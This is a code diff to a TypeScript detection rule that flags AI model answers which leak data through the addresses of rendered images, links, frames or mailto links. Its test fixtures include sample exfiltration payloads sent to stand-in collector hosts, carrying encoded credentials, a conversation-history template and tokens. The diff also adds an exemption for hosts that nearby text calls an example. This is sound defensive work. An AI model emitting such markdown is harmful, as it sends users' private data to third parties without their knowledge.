@@ -1,10 +1,12 @@
 import type { Severity } from '@ase/schemas'
 import { answer } from '../../examples.ts'
 import { worst } from '../../matching/hits.ts'
-import { isExfiltrationHost } from '../../network/exfiltration-hosts.ts'
 import type { Rule } from '../../rule.ts'
-import { isPayload } from '../../text/payload.ts'
-import { remoteReferences, type RemoteReference } from '../../text/remote-references.ts'
+import { isCollector } from '../../text/references/collectors.ts'
+import { dataElsewhere } from '../../text/references/data-elsewhere.ts'
+import { decodeEntities } from '../../text/references/entities.ts'
+import { isPayload } from '../../text/references/payload.ts'
+import { remoteReferences, type RemoteReference } from '../../text/references/remote-references.ts'
 
 export const markdownExfiltration: Rule = {
   code: 'MARKDOWN_EXFILTRATION',
@@ -12,11 +14,20 @@ export const markdownExfiltration: Rule = {
   types: ['output'],
   reason:
     'Carries data in the address of an image, link or frame, which is fetched when the text is shown.',
+  evidence:
+    'An address outside of code that holds encoded or free text, a value of the answer itself or a template for one, or that belongs to a service which collects requests; high when showing the text fetches it.',
+  quiet:
+    'Badges, maps, searches, diagrams and sharing links; parameters that name a thing, a size or a campaign; addresses in code; a collecting host that the sentence calls an example.',
   references: ['https://atlas.mitre.org/techniques/AML.T0077'],
   mappings: { owasp: ['LLM05', 'ASI02'], atlas: ['AML.T0077'], cwe: ['CWE-200'] },
   match: ({ envelope }) => {
     if (envelope.type !== 'output') return []
-    const severity = worst(remoteReferences(envelope.input.content).map(judge))
+    const content = decodeEntities(envelope.input.content)
+    const references = remoteReferences(content)
+    const standsElsewhere = dataElsewhere(content, references)
+    const severity = worst(
+      references.map((reference) => judge(content, reference, standsElsewhere)),
+    )
     return severity === null ? [] : [{ path: 'input.content', severity }]
   },
   examples: {
@@ -25,18 +36,49 @@ export const markdownExfiltration: Rule = {
       answer('<img src="https://c.tracker.example/dXNlcjphbGljZTtrZXk6NDI0Mg/logo.png">'),
       answer('[more](https://webhook.site/7f2b?c=hello)'),
       answer('<iframe src="https://tracker.example/f?q=a%20b%20c%20secret%20plan"></iframe>'),
+      answer('![x](https://img.tracker.example/p.png?d={conversation_history})'),
+      answer('Invoice 7710293 is open.\n\n![x](https://img.tracker.example/a.png?n=7710293)'),
+      answer('[mail](mailto:drop@tracker.example?body=token=tk_9f2c81)'),
+      answer(
+        '![a](https://www.google.com/url?q=https%3A%2F%2Ft.example%2F%3Fd%3Dpin%20is%20now%20441)',
+      ),
+      answer('\\includegraphics{https://t.example/a.png?d=dXNlcjphbGljZSBrZXk6NDI0Mg}'),
     ],
     passes: [
       answer('![chart](https://example.com/chart.png)'),
       answer('![build](https://img.shields.io/badge/build-passing-brightgreen)'),
       answer('[map](https://maps.example.com/?q=Main+Street+5&utm_source=mail)'),
       answer('[docs](https://example.com/guide#install)'),
+      answer('Order 7710293: [track it](https://shop.example/orders?order=7710293)'),
+      answer('Our scanner documentation gives https://webhook.site/7f2b as an example.'),
+      answer('`![x](https://img.tracker.example/p.png?d=dXNlcjphbGljZSBrZXk6NDI0Mg)`'),
+      answer('[write us](mailto:support@shop.example?subject=Order%207710293)'),
     ],
   },
 }
 
-function judge({ url, automatic }: RemoteReference): Severity | null {
-  if (isExfiltrationHost(url)) return automatic ? 'high' : 'medium'
-  if (!isPayload(url, automatic)) return null
-  return automatic ? 'high' : 'medium'
+function judge(
+  content: string,
+  { url, form, start }: RemoteReference,
+  standsElsewhere: (value: string, automatic: boolean) => boolean,
+): Severity | null {
+  if (form === 'quoted') return null
+  const automatic = form === 'fetched'
+  const found = automatic ? 'high' : 'medium'
+  if (isCollector(url)) return !automatic && isCalledExample(content, start) ? null : found
+  return isPayload(url, { automatic, standsElsewhere }) ? found : null
+}
+
+const SENTENCE_MAX = 160
+
+function isCalledExample(content: string, at: number): boolean {
+  const before =
+    content
+      .slice(Math.max(0, at - SENTENCE_MAX), at)
+      .split(/[.!?]\s|\n/)
+      .at(-1) ?? ''
+  const after = content.slice(at, at + SENTENCE_MAX).split(/[.!?]\s|\n/, 1)[0] ?? ''
+  return /\b(?:examples?|documentation|docs|documented|rule|detects?|detector|scanner|such as|like|e\.g|known|blocked|blocklist)\b/i.test(
+    before + after,
+  )
 }
